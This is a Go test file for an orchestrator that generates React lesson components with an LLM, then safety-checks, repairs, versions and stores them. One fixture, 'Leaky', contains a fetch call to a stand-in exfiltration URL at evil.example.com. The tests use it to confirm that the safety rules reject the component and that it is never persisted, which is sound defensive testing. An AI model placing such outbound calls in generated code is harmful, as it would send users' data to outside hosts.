package orchestrator

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/goleak"

	"lessonforge/internal/store"
)

func TestMain(m *testing.M) {
	goleak.VerifyTestMain(m, goleak.IgnoreTopFunction("go.opencensus.io/stats/view.(*worker).start"))
}

const validComponent = "```tsx\n" + `import React, { useState } from "react";

export default function Counter() {
  const [count, setCount] = useState(0);
  return <button onClick={() => setCount(count + 1)}>Count: {count}</button>;
}
` + "```"

const unsafeComponent = "```tsx\n" + `import React from "react";

export default function Leaky() {
  fetch("https://evil.example.com/exfil");
  return <div>done</div>;
}
` + "```"

// smartQuoteComponent does not parse until typographic quotes are
// normalized, which is exactly what the deterministic repair engine fixes.
const smartQuoteComponent = "```tsx\n" + `import React from "react";

export default function Note() {
  const msg = “hello”;
  return <p>{msg}</p>;
}
` + "```"

func newRequest() Request {
	return Request{LessonID: "lesson-1", Topic: "photosynthesis"}
}

func TestRunSucceedsOnFirstAttempt(t *testing.T) {
	client := scriptedLLM(validComponent)
	repo := &mockRepo{}
	o := New(client, repo, Options{})

	res, err := o.Run(context.Background(), newRequest())
	require.NoError(t, err)
	require.True(t, res.Success)
	assert.Equal(t, 1, res.AttemptCount)
	assert.Equal(t, 1, res.Version)

	require.Len(t, repo.traces, 1)
	assert.Equal(t, "succeeded", repo.traces[0].Outcome)
	assert.Equal(t, 1, repo.traces[0].Attempt)

	require.Len(t, repo.versions, 1)
	assert.Contains(t, repo.versions[0].moduleText, "React.createElement")
	assert.NotEmpty(t, repo.versions[0].hash)

	require.Len(t, repo.statuses, 1)
	assert.Equal(t, store.StatusGenerated, repo.statuses[0].status)
	assert.Equal(t, "status", repo.lastOp(), "terminal status must be the last write")
	assert.Equal(t, []string{"claim", "trace", "version", "status"}, repo.ops)
}

func TestRunRecoversFromSafetyRejection(t *testing.T) {
	client := scriptedLLM(unsafeComponent, validComponent)
	repo := &mockRepo{}
	o := New(client, repo, Options{})

	res, err := o.Run(context.Background(), newRequest())
	require.NoError(t, err)
	require.True(t, res.Success)
	assert.Equal(t, 2, res.AttemptCount)

	require.Len(t, repo.traces, 2)
	assert.Equal(t, "safety_rejected", repo.traces[0].Outcome)
	assert.Contains(t, repo.traces[0].SafetyIssues, "network-fetch")
	assert.Equal(t, "succeeded", repo.traces[1].Outcome)

	// The second call is a fix-request carrying the rejected source and the
	// rule that rejected it.
	require.Equal(t, 2, client.callCount())
	assert.Contains(t, client.users[1], "network-fetch")
	assert.Contains(t, client.users[1], "evil.example.com")
	assert.NotEqual(t, client.systems[0], client.systems[1])
}

func TestRunRepairsMalformedSourceWithinOneAttempt(t *testing.T) {
	client := scriptedLLM(smartQuoteComponent)
	repo := &mockRepo{}
	o := New(client, repo, Options{})

	res, err := o.Run(context.Background(), newRequest())
	require.NoError(t, err)
	require.True(t, res.Success)
	assert.Equal(t, 1, res.AttemptCount, "repair re-entry stays within the attempt")
	require.Equal(t, 1, client.callCount(), "no second model call for a repairable failure")

	require.Len(t, repo.traces, 1)
	assert.Equal(t, "succeeded", repo.traces[0].Outcome)
	assert.Contains(t, repo.traces[0].RepairApplied, "normalize-typographic-quotes")

	require.Len(t, repo.versions, 1)
	assert.Contains(t, repo.versions[0].sourceText, `"hello"`)
	assert.NotContains(t, repo.versions[0].sourceText, "“")
}

func TestRunNeverPersistsUnsafeContent(t *testing.T) {
	client := scriptedLLM(unsafeComponent)
	repo := &mockRepo{}
	o := New(client, repo, Options{MaxAttempts: 3})

	res, err := o.Run(context.Background(), newRequest())
	require.NoError(t, err)
	require.False(t, res.Success)
	assert.Equal(t, 3, res.AttemptCount)
	assert.NotEmpty(t, res.Issues)

	assert.Empty(t, repo.versions, "unsafe source must never reach the store")
	require.Len(t, repo.traces, 3)
	for i, tr := range repo.traces {
		assert.Equal(t, "safety_rejected", tr.Outcome, "trace %d", i)
		assert.Equal(t, i+1, tr.Attempt)
	}

	require.Len(t, repo.statuses, 1)
	assert.Equal(t, store.StatusFailed, repo.statuses[0].status)
	assert.Contains(t, repo.statuses[0].reason, "attempt budget exhausted")
	assert.Equal(t, "status", repo.lastOp())
}

func TestRunIsANoOpWhenLessonNotQueued(t *testing.T) {
	client := scriptedLLM(validComponent)
	repo := &mockRepo{
		ClaimLessonFunc: func(ctx context.Context, id string) error { return store.ErrNotQueued },
	}
	o := New(client, repo, Options{})

	_, err := o.Run(context.Background(), newRequest())
	assert.ErrorIs(t, err, store.ErrNotQueued)
	assert.Zero(t, client.callCount(), "no generation for an unclaimable lesson")
	assert.Empty(t, repo.traces)
	assert.Empty(t, repo.statuses)
	assert.Empty(t, repo.versions)
}

func TestRunStopsAtWallClockCeiling(t *testing.T) {
	client := scriptedLLM(validComponent)
	repo := &mockRepo{}
	o := New(client, repo, Options{MaxAttempts: 3, WallClock: time.Nanosecond})

	res, err := o.Run(context.Background(), newRequest())
	require.NoError(t, err)
	require.False(t, res.Success)
	assert.Contains(t, res.FailureReason, "wall clock")

	require.Len(t, repo.traces, 1, "no further attempts after the deadline")
	assert.Equal(t, "generation_failed", repo.traces[0].Outcome)
	require.Len(t, repo.statuses, 1)
	assert.Equal(t, store.StatusFailed, repo.statuses[0].status)
	assert.Equal(t, "status", repo.lastOp())
}

func TestRunReportsGenerationFailure(t *testing.T) {
	client := &mockLLM{
		CompleteWithSystemFunc: func(ctx context.Context, _, _ string) (string, error) {
			return "", assert.AnError
		},
	}
	repo := &mockRepo{}
	o := New(client, repo, Options{MaxAttempts: 2})

	res, err := o.Run(context.Background(), newRequest())
	require.NoError(t, err)
	require.False(t, res.Success)
	assert.True(t, strings.Contains(res.FailureReason, "generation attempt"))

	require.Len(t, repo.traces, 2)
	for _, tr := range repo.traces {
		assert.Equal(t, "generation_failed", tr.Outcome)
	}
}

func TestRetryAfterGenerationFailureUsesFreshPrompt(t *testing.T) {
	var calls int
	client := &mockLLM{
		CompleteWithSystemFunc: func(ctx context.Context, _, _ string) (string, error) {
			calls++
			if calls == 1 {
				return "", assert.AnError
			}
			return validComponent, nil
		},
	}
	repo := &mockRepo{}
	o := New(client, repo, Options{})

	res, err := o.Run(context.Background(), newRequest())
	require.NoError(t, err)
	require.True(t, res.Success)
	assert.Equal(t, 2, res.AttemptCount)

	// The prior attempt produced no source, so the retry is a plain
	// component request, not a fix-request wrapping an empty source.
	require.Equal(t, 2, client.callCount())
	assert.Equal(t, client.systems[0], client.systems[1])
	assert.NotContains(t, client.users[1], "PREVIOUS SOURCE")
	assert.Contains(t, client.users[1], "photosynthesis")
}
